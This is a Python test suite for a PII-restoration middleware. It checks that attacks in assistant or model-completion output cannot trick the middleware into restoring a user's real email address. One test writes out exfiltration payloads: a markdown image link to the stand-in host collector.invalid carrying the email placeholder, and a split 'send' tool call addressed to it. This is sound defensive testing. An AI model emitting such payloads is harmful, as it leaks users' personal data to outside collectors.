"""Attacks on restoration and ordinary answers at every door: whole, split over blocks, and as a stream."""

import json
from typing import Any

import httpx2

from tests.protocol.mcp_service import KEY, service
from tests.protocol.mcp_wire import HANDSHAKE, MODERN, client
from tests.restoration_attacks import ORDINARY, Attack, attacks
from tests.sampling import WHOLE, sample

EMAIL = "ruth.okafor@harbour.example"
MAP = {"PERSON_1": "Ruth Okafor", "EMAIL_1": EMAIL}
GREETING = "Dear [PERSON_1],\n\n"
PATH = "/api/v1/middleware/pii_restoration"


def messages(chosen: list[Attack]) -> list[Any]:
    """Return a message for each attack behind an ordinary greeting; another role stands between two of them."""
    found: list[Any] = []
    for attack in chosen:
        blocks = [
            {"type": "text", "text": text} for text in (GREETING + attack.blocks[0], *attack.blocks[1:])
        ]
        found += [{"role": "assistant", "content": blocks}, {"role": "user", "content": "Go on."}]
    return found


async def restored(door: str, url: str, context: list[Any], **arguments: Any) -> list[Any]:
    sent = {"arguments": {"redactions": MAP, **arguments}, "context": context}
    if door != "rest":
        async with client(url, door, str(KEY)) as wire:
            answer = await wire.call("middleware/invoke", name="pii_restoration", **sent)
            content: list[Any] = answer.result["content"]
            return content
    async with httpx2.AsyncClient(headers={"authorization": f"Bearer {KEY}"}, timeout=60) as http:
        response = await http.post(url.replace("/mcp", f"{PATH}/invoke"), json=sent)
        response.raise_for_status()
        found: list[Any] = response.json()["content"]
        return found


async def streamed(url: str, text: str, size: int) -> str:
    records: list[Any] = [{"arguments": {"redactions": MAP}}]
    records += [{"text": text[start : start + size]} for start in range(0, len(text), size)]
    headers = {"authorization": f"Bearer {KEY}", "content-type": "application/x-ndjson"}
    async with httpx2.AsyncClient(headers=headers, timeout=60) as http:
        body = "".join(json.dumps(record) + "\n" for record in records)
        response = await http.post(url.replace("/mcp", f"{PATH}/stream"), content=body)
    answers = [json.loads(line) for line in response.text.splitlines()]
    assert answers[-1]["done"] is True
    return "".join(answer.get("text", "") for answer in answers)


async def test_no_attack_takes_an_original_out_at_any_door(tmp_path: Any) -> None:
    everything = attacks()
    assert len(everything) > 500
    chosen = everything if WHOLE else sample("restoration attacks", everything, 150)
    async with service(f"sqlite:///{tmp_path}/sluice.db") as (url, _):
        for door in ("rest", HANDSHAKE, MODERN):
            for start in range(0, len(chosen), 75):
                part = chosen[start : start + 75]
                shown = (await restored(door, url, messages(part)))[::2]
                for attack, message in zip(part, shown, strict=True):
                    text = "".join(block["text"] for block in message["content"])
                    assert EMAIL not in text, (door, attack.name)
                    assert text.startswith("Dear Ruth Okafor,"), (door, attack.name)
            given_away = await restored(door, url, messages(chosen[:20]), positions="all")
            assert str(given_away).count(EMAIL) >= 20 - sum(len(one.blocks) > 1 for one in chosen[:20])
            assert await restored(door, url, messages([Attack("", (one,)) for one in ORDINARY])) == [
                message
                for one in ORDINARY
                for message in messages([Attack("", (with_originals(one),))])
                for message in [json.loads(with_originals(json.dumps(message)))]
            ]
        for attack in chosen[:: 1 if WHOLE else 6]:
            text = await streamed(url, GREETING + attack.text, max(1, len(attack.text) // 7))
            assert EMAIL not in text and text.startswith("Dear Ruth Okafor,"), attack.name
        for one in ORDINARY[::3]:
            assert await streamed(url, one, 5) == with_originals(one)


def with_originals(text: str) -> str:
    return text.replace("[PERSON_1]", "Ruth Okafor").replace("[EMAIL_1]", EMAIL)


async def test_blocks_that_a_host_shows_together_are_judged_together(tmp_path: Any) -> None:
    link, rest = "![x](https://collector.invalid/?q=", "[EMAIL_1])"
    call, to = '{"name": "send", "argu', 'ments": {"to": "[EMAIL_1]"}}'
    split = [
        [{"type": "text", "text": link}, {"type": "text", "text": rest}],
        [link, rest],
        [{"role": "assistant", "content": link}, {"role": "assistant", "content": rest}],
        [{"role": "assistant", "content": [{"type": "text", "text": call}, {"type": "text", "text": to}]}],
        [{"type": "text", "text": "[EMAIL_1]"}, {"type": "text", "text": ".collector.invalid"}],
        [
            {
                "role": "assistant",
                "content": [
                    {"type": "text", "text": link},
                    {"type": "tool_use", "id": "t", "name": "n", "input": {"a": 1}},
                    {"type": "text", "text": rest},
                ],
            }
        ],
    ]
    apart = [
        {"role": "assistant", "content": "See https://a.example/docs"},
        {"role": "user", "content": "Who wrote it?"},
        {"role": "assistant", "content": "[PERSON_1] did."},
        {
            "role": "assistant",
            "content": [{"type": "text", "text": "Ask "}, {"type": "text", "text": "[EMAIL_1]."}],
        },
    ]
    async with service(f"sqlite:///{tmp_path}/sluice.db") as (url, _):
        for door in ("rest", HANDSHAKE, MODERN):
            for context in split:
                assert await restored(door, url, context) == context, door
            shown = await restored(door, url, apart)
            assert shown == json.loads(with_originals(json.dumps(apart))), door


def completions(text: str) -> list[Any]:
    """Return the answers of three interfaces of models that say ``text``."""
    return [
        {"choices": [{"index": 0, "message": {"role": "assistant", "content": text}}]},
        {"role": "assistant", "content": [{"type": "text", "text": text}]},
        {
            "output": [
                {"type": "message", "role": "assistant", "content": [{"type": "output_text", "text": text}]}
            ]
        },
    ]


async def test_no_attack_takes_an_original_out_of_a_completion(tmp_path: Any) -> None:
    params = {"name": "pii_restoration", "event": "llm/completion", "phase": "response"}
    config = {"redactions": MAP}
    chosen = [*sample("attacks in completions", attacks(), 30), *CALLS_FIRST]
    async with service(f"sqlite:///{tmp_path}/sluice.db") as (url, _):
        for revision in (HANDSHAKE, MODERN):
            async with client(url, revision, str(KEY)) as wire:

                async def answered(payload: Any, *, wire: Any = wire) -> tuple[str, Any]:
                    reply = await wire.call("interceptor/invoke", **params, payload=payload, config=config)
                    return json.dumps(reply.result["payload"]), reply.result["info"]

                for number, attack in enumerate(chosen):
                    text, info = await answered(completions(GREETING + attack.text)[number % 3])
                    assert EMAIL not in text and "Dear Ruth Okafor," in text, (revision, attack.name)
                    assert info["withheld"] == info["handlesLeft"] >= 1, (revision, attack.name)
                for payload in completions(ORDINARY[0]):
                    text, info = await answered(payload)
                    assert text == json.dumps(payload).replace("[PERSON_1]", "Ruth Okafor")
                    assert info == {"unresolved": 0}
                for payload in completions("[PERSON_1] and [PERSON_7]"):
                    text, info = await answered(payload)
                    assert "Ruth Okafor and [PERSON_7]" in text
                    assert info == {"unresolved": 1, "handlesLeft": 1}


CALLS_FIRST = [
    Attack("id first", ('{"id": "[EMAIL_1]", "name": "send", "arguments": {}}',)),
    Attack("bracket in a string", ('{"id": "[EMAIL_1]", "x": "}{", "y": "}", "arguments": {}}',)),
    Attack("in a string", ('{"t": "{\\n \\"id\\": \\"[EMAIL_1]\\",\\n \\"arguments\\": {}}"}',)),
]
